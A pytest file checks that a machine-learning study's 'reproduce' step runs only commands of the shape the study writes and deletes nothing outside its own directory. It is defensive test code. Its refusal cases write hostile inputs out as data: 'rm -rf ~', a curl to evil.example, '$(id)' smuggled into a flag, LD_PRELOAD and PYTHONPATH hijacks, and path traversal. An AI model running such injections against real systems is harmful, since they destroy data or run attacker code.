"""The study reruns only commands of the shape it writes, and empties only its own workdirs.

results.json may come from a bucket anyone with write access could edit: ``reproduce`` must not
become a way to run another program or to delete another directory.
"""

import json
import os

import pytest

from experiments.study import provenance
from experiments.study import run

CONFIG = "experiments/configs/digits.py"


def _command(root, *, env=None, config=CONFIG, workdir=None, flags=("--cpu_devices=1",)):
  """A command as the study writes it (run.run_cell's calls), with the parts given."""
  argv = provenance.reproduce_argv(config, {"seed": 1, "loss.name": "focal"},
                                   workdir or os.path.join(root, "long_tail_10/focal/1"), flags)
  return provenance.reproduce_command({"JAX_PLATFORMS": "cpu"} if env is None else env, argv)


@pytest.fixture
def root(tmp_path):
  """A reproduce root, and beside it a directory whose file must survive every refusal."""
  (tmp_path / "victim").mkdir()
  (tmp_path / "victim" / "precious.txt").write_text("trained for a week")
  (tmp_path / "reproduce" / "long_tail_10" / "focal" / "1").mkdir(parents=True)
  (tmp_path / "reproduce" / "long_tail_10" / "focal" / "1" / "kept.txt").write_text("x")
  return str(tmp_path / "reproduce")


def test_a_command_the_study_writes_is_accepted(root):
  for env in ({"JAX_PLATFORMS": "cpu"},
              {"JAX_PLATFORMS": "cpu", "XLA_FLAGS": "--xla_force_host_platform_device_count=8"},
              {"JAX_PLATFORMS": "cpu", "JAX_NUM_CPU_DEVICES": "4"}):
    command = _command(root, env=env)
    got_env, argv, workdir = run.checked_command({"command": command}, root)
    assert got_env == env and provenance.reproduce_command(env, argv) == command
    assert str(workdir) == os.path.join(root, "long_tail_10", "focal", "1")


def test_every_recorded_command_is_accepted_under_its_study_root():
  for study in ("digits", "mnist1d"):
    path = os.path.join(provenance.REPO, "experiments", "results", study, "results.json")
    with open(path) as f:
      entries = json.load(f)["runs"]
    for entry in entries:
      *_, workdir = run.checked_command(entry, f"runs/reproduce_{study}")
      assert str(workdir).endswith(entry["run_id"]), entry["run_id"]


@pytest.mark.parametrize("change, refused", [
    (lambda c, r: c + " ; rm -rf ~", "unexpected ';'"),
    (lambda c, r: c + " && curl evil.example", "unexpected '&&'"),
    (lambda c, r: c.replace("experiments.train", "experiments.study"), "does not run"),
    (lambda c, r: c.replace("python -m", "python3 -m"), "does not run"),
    (lambda c, r: c.replace(CONFIG, "/tmp/evil.py"), "--config=/tmp/evil.py"),
    (lambda c, r: c.replace(CONFIG, "experiments/configs/../../evil.py"), "not a config file"),
    (lambda c, r: c.replace(CONFIG, "tests/tfds_fakes.py"), "not a config file under"),
    (lambda c, r: c.replace(CONFIG, "experiments/configs/missing.py"), "not a config file"),
    (lambda c, r: c + " --distributed", "unexpected '--distributed'"),
    (lambda c, r: c + " --coordinator_address=10.0.0.1:1", "unexpected '--coordinator_address"),
    (lambda c, r: c.replace("--cpu_devices=1", "--cpu_devices=$(id)"), "bad value"),
    (lambda c, r: c + " --workdir=" + r + "/other", "--workdir must be given once"),
    (lambda c, r: "LD_PRELOAD=/tmp/evil.so " + c, "environment variable LD_PRELOAD"),
    (lambda c, r: c.replace("JAX_PLATFORMS=cpu", "PYTHONPATH=/tmp"), "variable PYTHONPATH"),
    (lambda c, r: c.replace("JAX_PLATFORMS=cpu", "XLA_FLAGS='--xla_dump_to=/tmp/x'"),
     "not a value the study writes"),
    (lambda c, r: c + " 'unclosed", "not a shell command"),
])
def test_a_command_of_another_shape_is_refused_and_nothing_deleted(root, change, refused):
  assert refused in _refusal(root, change, "Refusing to run")


def _refusal(root, change, match) -> str:
  """The message with which ``reproduce`` refuses the changed command; nothing was deleted."""
  command = change(_command(root), root)
  with pytest.raises(ValueError, match=match) as error:
    run.reproduce({"command": command, "run_id": "x"}, root=root)
  assert os.path.exists(os.path.join(root, "long_tail_10", "focal", "1", "kept.txt"))
  return str(error.value)


@pytest.mark.parametrize("workdir", ["{victim}", "{root}/../victim", "{root}", "{root}/",
                                     "{root}_x/run", "victim", "gs://bucket/{root}/run"])
def test_a_workdir_outside_the_reproduce_root_is_refused_and_kept(root, workdir):
  victim = os.path.join(os.path.dirname(root), "victim")
  workdir = workdir.format(root=root, victim=victim)
  command = _command(root, workdir=workdir)
  with pytest.raises(ValueError, match="not inside the reproduce root") as error:
    run.reproduce({"command": command, "run_id": "x"}, root=root)
  assert f"--workdir={workdir}" in str(error.value)
  assert os.path.exists(os.path.join(victim, "precious.txt"))
  assert os.path.exists(os.path.join(root, "long_tail_10", "focal", "1", "kept.txt"))


def test_a_bucket_root_takes_only_workdirs_inside_it():
  command = _command("gs://bucket/reproduce")
  *_, workdir = run.checked_command({"command": command}, "gs://bucket/reproduce")
  assert str(workdir) == "gs://bucket/reproduce/long_tail_10/focal/1"
  escaped = _command("gs://bucket/reproduce", workdir="gs://bucket/reproduce/../runs/x")
  with pytest.raises(ValueError, match="not inside the reproduce root"):
    run.checked_command({"command": escaped}, "gs://bucket/reproduce")


@pytest.mark.parametrize("change, refused", [
    (lambda c, r: c.replace("--cpu_devices=1", "--config.compilation_cache=gs://other/cache"),
     "--config.compilation_cache=gs://other/cache"),
    (lambda c, r: c.replace("--cpu_devices=1", "--config.compilation_cache=shared_cache"),
     "--config.compilation_cache=shared_cache"),
    (lambda c, r: c.replace("--cpu_devices=1", f"--config.compilation_cache={r}/../cache"),
     "--config.compilation_cache="),
    (lambda c, r: c.replace("JAX_PLATFORMS=cpu", "XLA_FLAGS=--xla_dump_to=.."),
     "XLA_FLAGS --xla_dump_to=.."),
    (lambda c, r: c.replace(
        "JAX_PLATFORMS=cpu",
        "XLA_FLAGS='--xla_force_host_platform_device_count=8 --xla_dump_to=dump'"),
     "XLA_FLAGS --xla_dump_to=dump"),
    (lambda c, r: c.replace("--cpu_devices=1", "--config.dataset.data_dir=/data/someone"),
     "--config.dataset.data_dir=/data/someone"),
    (lambda c, r: c.replace("--cpu_devices=1", "--config.model.init_from=gs://b/weights.st"),
     "--config.model.init_from=gs://b/weights.st"),
    (lambda c, r: c.replace("--cpu_devices=1", "--config.name=gs://b/x"), "--config.name=gs://"),
])
def test_a_path_outside_the_reproduce_root_is_refused_and_named(root, change, refused):
  assert refused in _refusal(root, change, "Refusing to reproduce with")


@pytest.mark.parametrize("flag", ["--config.compilation_cache=off",
                                  "--config.compilation_cache=auto",
                                  "--config.compilation_cache={root}/cache",
                                  "--config.model.init_from=",
                                  "--config.dataset.data_dir={root}/tfds"])
def test_the_studys_own_paths_pass(root, flag):
  env = {"JAX_PLATFORMS": "cpu", "XLA_FLAGS": "--xla_force_host_platform_device_count=8"}
  command = _command(root, env=env, flags=("--cpu_devices=1", flag.format(root=root)))
  _, argv, _ = run.checked_command({"command": command}, root)
  assert flag.format(root=root) in argv

